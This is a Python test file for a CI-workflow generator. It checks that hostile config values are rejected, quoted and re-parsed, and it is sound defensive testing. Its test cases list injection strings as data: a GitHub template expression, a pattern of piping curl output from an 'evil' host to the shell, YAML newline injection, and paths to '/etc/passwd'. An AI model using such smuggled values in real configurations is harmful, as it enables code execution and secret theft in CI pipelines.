"""Hostile ``[ci]`` values never reach a workflow: checked at load, quoted, re-parsed (issue 15).

A session named ``${{ github.event.issue.title }}`` was a template injection; a newline or a
quote in an OS, branch or session name gave YAML that does not parse.
"""

from __future__ import annotations

import dataclasses
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from ferrox.ci import plan, render
from ferrox.ci.settings import CiSettings
from ferrox.errors import ConfigError
from ferrox.pins import load_pins
from ferrox.steps import all_steps

Call = Callable[..., Any]
INJECTION = "${{ github.event.issue.title }}"


@pytest.mark.parametrize(
    ("table", "key"),
    [
        (f"[ci]\nextra_sessions = ['{INJECTION}']\n", "ci.extra_sessions"),
        ("[ci]\nextra_sessions = ['lint; curl evil | sh']\n", "ci.extra_sessions"),
        ("[ci]\nextra_sessions = ['9lives']\n", "ci.extra_sessions"),
        ("[ci]\nextra_tools = ['nextest && curl evil']\n", "ci.extra_tools"),
        ('[ci]\ntest_os = ["ubuntu-latest\\n  evil: 1"]\n', "ci.test_os"),
        ("[ci]\ntest_os = ['ubuntu-latest\"']\n", "ci.test_os"),
        (f"[ci]\nbranches = ['{INJECTION}']\n", "ci.branches"),
        ("[ci]\nbranches = ['main, evil']\n", "ci.branches"),
        ("[ci]\npython = '3.12\\n'\n", "ci.python"),
        ("[ci]\nsecurity_cron = '* * *'\n", "ci.security_cron"),
        ("[ci]\ndaily_cron = '0 0 * * * *'\n", "ci.daily_cron"),
        ("[ci]\nweekly_cron = '0 0 * * 1\\n'\n", "ci.weekly_cron"),
        ("[ci]\nbench_baseline_cron = \"0 0 * * '1'\"\n", "ci.bench_baseline_cron"),
        ("[ci]\nrequirements = 'ci/req.txt; curl evil'\n", "ci.requirements"),
        ("[ci]\nrequirements = '../outside.txt'\n", "ci.requirements"),
        ("[ci]\nrequirements = '/etc/passwd'\n", "ci.requirements"),
        ('[[ci.targets]]\ntriple = "x86_64-unknown-linux-gnu\'"\n', "ci.targets[0].triple"),
        ("[[ci.targets]]\nrunner = 'ubuntu-latest #'\n", "ci.targets[0].runner"),
        (f"[[ci.targets]]\nfeatures = ['{INJECTION}']\n", "ci.targets[0].features"),
        ("report_dir = \"target/x') || true || ('\"\n", "report_dir"),
        ("report_dir = 'target/${{ secrets.X }}'\n", "report_dir"),
    ],
)
def test_a_value_a_workflow_cannot_carry_is_refused_at_load(
    ferrox: Call, tmp_path: Path, table: str, key: str
) -> None:
    (tmp_path / "ferrox.toml").write_text(table)
    for command in ("matrix", "init"):
        done = ferrox(command, "-C", str(tmp_path))
        assert done.code == 2, done.err
        assert f"key {key!r}" in done.err and "ferrox.toml" in done.err
        assert not (tmp_path / ".github").exists()


def test_an_extra_session_taking_a_steps_job_id_is_refused() -> None:
    inputs = plan.Inputs(steps=all_steps(), ci=CiSettings(extra_sessions=("fmt",)))
    with pytest.raises(ConfigError, match=r"fmt: already a job of ci\.yml"):
        plan.plan(inputs)


def test_an_extra_session_nox_does_not_know_is_refused(ferrox: Call, tmp_path: Path) -> None:
    (tmp_path / "noxfile.py").write_text(
        "import nox\n\n@nox.session(venv_backend='none')\ndef lint(session):\n    pass\n"
    )
    (tmp_path / "ferrox.toml").write_text("[ci]\nextra_sessions = ['lint', 'nope']\n")
    done = ferrox("init", "--workflows", "-C", str(tmp_path))
    assert done.code == 2, done.out + done.err
    assert "nope: not a session of noxfile.py" in done.err and "lint" not in done.err
    assert not (tmp_path / ".github").exists()


def test_a_rendered_workflow_that_does_not_read_back_is_never_written() -> None:
    workflow = plan.plan(plan.Inputs(steps=all_steps(), ci=CiSettings())).workflows[0]
    text = render.render_workflow(workflow)
    render.check_rendered(workflow, text)
    with pytest.raises(ConfigError, match="does not parse back"):
        render.check_rendered(workflow, text.replace("nox -s fmt", "nox -s fmt; curl evil"))
    with pytest.raises(ConfigError, match="does not parse"):
        render.check_rendered(workflow, text.replace("jobs:", "jobs: ["))


def test_a_value_that_slipped_past_load_is_quoted_not_injected() -> None:
    # Model values bypass the load-time checks here: the filters alone must keep them scalars.
    workflow = plan.plan(plan.Inputs(steps=all_steps(), ci=CiSettings())).workflows[0]
    hostile = "x\n  evil: 1\n'\"#: [a, {b"
    job = dataclasses.replace(workflow.jobs[0], name=hostile, runs_on=hostile)
    tampered = dataclasses.replace(workflow, name=hostile, jobs=(job, *workflow.jobs[1:]))
    document = yaml.safe_load(render.render_workflow(tampered))
    assert document["name"] == hostile
    first = document["jobs"][job.id]
    assert first["name"] == hostile and first["runs-on"] == hostile
    with pytest.raises(ValueError, match="one line"):
        render.render_workflow(dataclasses.replace(workflow, purpose="a\nb: c"))


@settings(max_examples=200, deadline=None)
@given(value=st.text(max_size=30))
def test_yaml_scalar_reads_back_as_the_same_string(value: str) -> None:
    if value in ("true", "false"):  # written plain on purpose: action inputs read as booleans
        return
    for indent in (0, 8):
        text = f"key: {render.yaml_scalar(value, indent)}\n"
        expected = value.rstrip("\n") + "\n" if "\n" in value and "|" in text[:6] else value
        assert yaml.safe_load(text) == {"key": expected}
    assert yaml.safe_load(f"key: {render.yaml_flow([value, value])}") == {"key": [value, value]}


@settings(max_examples=200, deadline=None)
@given(value=st.text(min_size=1, max_size=30))
def test_yaml_key_reads_back_as_the_same_string(value: str) -> None:
    assert yaml.safe_load(f"{render.yaml_key(value)}: x") == {value: "x"}


@pytest.mark.parametrize(
    ("text", "key"),
    [
        (f"[rustup]\ncomponents = ['{INJECTION}']\n", "rustup.components"),
        ("[rustup]\ncomponents = 3\n", "rustup.components"),  # was a TypeError traceback
        ("[cargo.'--git=https://evil']\nversion = '1.0.0'\n", "cargo"),
        ("[python.'a b']\nversion = '1.0.0'\n", "python"),
        ("cargo = 3\n", "cargo"),  # was an AttributeError traceback
    ],
)
def test_pin_file_names_reaching_workflows_are_plain_words(
    tmp_path: Path, text: str, key: str
) -> None:
    path = tmp_path / "tools.toml"
    path.write_text(text)
    with pytest.raises(ConfigError, match=re.escape(f"key '{key}")):  # the key or one in it
        load_pins(path)
